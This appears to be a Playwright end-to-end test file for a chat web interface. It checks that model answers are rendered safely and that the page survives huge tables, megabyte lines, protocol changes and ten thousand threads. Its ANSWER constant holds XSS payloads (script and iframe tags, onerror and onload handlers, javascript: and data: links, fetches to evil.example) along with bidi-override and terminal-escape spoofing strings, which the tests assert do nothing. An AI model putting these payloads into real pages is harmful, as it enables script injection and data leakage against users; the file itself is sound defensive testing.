"""What a model may send: nothing runs, nothing is asked for elsewhere, and the page stays usable."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from playwright.async_api import Browser, Page, WebSocketRoute, expect

from tests.e2e.web.steps import at, home, message, online, rehearsing, row, said, say, scripted
from tests.kit.gateways import Site

ANSWER = """<script>window.hacked = 1; fetch("http://evil.example/script")</script>
<img src="http://evil.example/pixel" onerror="window.hacked = 2">

![picture](http://evil.example/picture.png) ![data](data:image/svg+xml;base64,PHN2Zz4=)

[one](javascript:window.hacked=3) [two](data:text/html,<script>window.hacked=4</script>) [three](vbscript:x) [fine](https://example.org/x)

<iframe src="http://evil.example/frame"></iframe> <a href="javascript:window.hacked=5">raw</a>

\u202egnp.exe\u202c zero\u200bwidth \u2066isolated\u2069 \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07

<svg onload="window.hacked=6"><style>@import "http://evil.example/style";</style></svg>
"""
TABLE = "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "cell|" * 60 + "\n") * 200
RUNAWAY = """["script", "iframe", "object", "embed", "style", "svg[onload]", "[onerror]"]
  .flatMap((one) => [...document.querySelectorAll(`#app ${one}`)]).length"""
UNTOLD = ("scopes", "findings", "settings")
LINKS = '[...document.querySelectorAll(".column a[href]")].map((one) => [one.protocol, one.rel, one.target])'
PICTURES = """[...document.querySelectorAll("img")].map((one) => one.src)
  .filter((src) => !src.startsWith("data:image/") && !src.startsWith(location.origin))"""


async def answered(page: Page, site: Site, text: str, shows: str) -> None:
    site.vendor.script("attack", site.vendor.says(*[text[at : at + 8_000] for at in range(0, len(text), 8_000)]))
    await say(page, "attack")
    await row(page, "assistant", shows).last.wait_for()
    await page.get_by_role("button", name="Stop").wait_for(state="hidden")


async def usable(page: Page) -> None:
    """The next message gets its answer."""
    await say(page, "and now?")
    await row(page, "assistant", "ok").last.wait_for()


async def test_markup_scripts_and_links_do_nothing(tmp_path: Path, browser: Browser) -> None:
    async with at(tmp_path, browser, scripted()) as (site, visitor):
        asked: list[str] = []
        visitor.page.context.on("request", lambda request: asked.append(request.url))
        page = await home(visitor, site)
        await answered(page, site, ANSWER + "\nthe end of it", "the end of it")
        assert await page.evaluate("window.hacked") is None
        assert await page.evaluate(RUNAWAY) == 0
        assert await page.evaluate(PICTURES) == []
        links: list[Any] = await page.evaluate(LINKS)
        assert {link[0] for link in links} <= {"https:", "http:"}
        assert all("noopener" in link[1] and link[2] == "_blank" for link in links)
        shown = await row(page, "assistant").inner_text()
        assert not any(sign in shown for sign in "\u202e\u2066\u200b\x1b")
        await page.get_by_role("button", name="Copy as Markdown").first.click()
        await usable(page)
        assert [url for url in asked if not url.startswith((site.url, "data:", "blob:"))] == []


async def test_a_huge_table_and_a_line_of_a_megabyte_are_shown_in_part(tmp_path: Path, browser: Browser) -> None:
    async with at(tmp_path, browser, scripted()) as (site, visitor):
        page = await home(visitor, site)
        await answered(page, site, TABLE + "\nafter the table", "after the table")
        assert await page.locator("td").count() < 6_000
        await answered(page, site, "x" * 1_000_000 + " end", "xxx")
        assert await page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
        assert await page.evaluate("document.querySelectorAll('*').length") < 12_000
        await usable(page)


def told_rows(frame: dict[str, Any]) -> list[dict[str, Any]]:
    """The rows that a frame tells, by a time line or by patches."""
    events: list[Any] = frame.get("events", [])
    whole = [told for event in events for told in event.get("rows", ())]
    return whole + [patch["row"] for event in events for patch in event.get("patches", ()) if "row" in patch]


async def patched(page: Page, change: Callable[[dict[str, Any]], None]) -> None:
    """Each frame of the gateway's goes through `change` on its way."""

    def through(ws: WebSocketRoute) -> None:
        server = ws.connect_to_server()

        def came(frame: str | bytes) -> None:
            value = json.loads(frame)
            change(value)
            ws.send(json.dumps(value))

        server.on_message(came)

    await page.route_web_socket("**/boundary", through)


async def test_kinds_of_a_later_gateway_are_shown_plainly_or_left_alone(tmp_path: Path, browser: Browser) -> None:
    def later(frame: dict[str, Any]) -> None:
        for told in told_rows(frame):
            if told["kind"] == "assistant":
                told |= {"kind": "hologram", "title": "A hologram", "text": "of later days", "markdown": None}
        if "events" in frame:
            frame["events"].append({"event": "weather", "sky": ["blue"]})

    async with at(tmp_path, browser, rehearsing()) as (site, visitor):
        page = visitor.page
        await patched(page, later)
        await home(visitor, site)
        await say(page, "/say anything")
        plain = page.locator("article.is-plain")
        await expect(plain).to_contain_text("A hologram")
        await expect(plain).to_contain_text("of later days")
        await page.reload()
        await expect(plain).to_contain_text("of later days")


async def test_an_older_gateway_that_tells_less_is_enough(tmp_path: Path, browser: Browser) -> None:
    def older(frame: dict[str, Any]) -> None:
        if isinstance(frame.get("value"), dict):
            frame["value"] = {name: told for name, told in frame["value"].items() if name not in UNTOLD}
        for told in told_rows(frame):
            for name in ("title_words", "detail_words", "text_words", "is_open", "count"):
                told.pop(name, None)

    async with at(tmp_path, browser, rehearsing()) as (site, visitor):
        page = visitor.page
        await patched(page, older)
        await home(visitor, site)
        await said(page, '/think so\n/tool list_dir {"path": "."}\n/say done', "done")
        await page.goto(f"{site.url}/#/settings/health")
        await expect(page.get_by_text("is for sign-ins with the scope admin")).to_be_visible()
        await page.goto(f"{site.url}/#/settings/tokens")
        await expect(page.get_by_role("button", name="Issue a token")).to_be_visible()


async def test_ten_thousand_threads_scroll_and_few_are_in_the_page(tmp_path: Path, browser: Browser) -> None:
    def many(frame: dict[str, Any]) -> None:
        value: Any = frame.get("value")
        screens: list[Any] = [value["tree"]] if isinstance(value, dict) and "tree" in value else []
        for told in (*screens, *frame.get("events", ())):
            if told.get("event") == "tree":
                told["nodes"] = [
                    {"kind": "thread", "id": f"many{n}", "name": f"Thread {n}", "updated_at": 1_700_000_000 - n}
                    for n in range(10_000)
                ]

    async with at(tmp_path, browser, rehearsing()) as (site, visitor):
        page = visitor.page
        await patched(page, many)
        await home(visitor, site)
        lines = page.get_by_role("treeitem")
        await lines.first.wait_for()
        assert await lines.count() < 150
        await lines.first.focus()
        await page.keyboard.press("End")
        await expect(page.get_by_role("treeitem", name="Thread 9999")).to_be_focused()
        assert await lines.count() < 150
        await page.locator(".tree-scroll").evaluate("(one) => { one.scrollTop = one.scrollHeight / 2; }")
        await page.get_by_role("treeitem", name="Thread 5000", exact=True).wait_for()
        await page.keyboard.press("Control+k")
        await expect(page.locator(".palette-input")).to_be_focused()
        await page.keyboard.type("Thread 7777")
        await expect(page.get_by_role("option").first).to_contain_text("Thread 7777")
        await page.keyboard.press("Escape")
        await message(page).fill("still quick")
        await online(page)
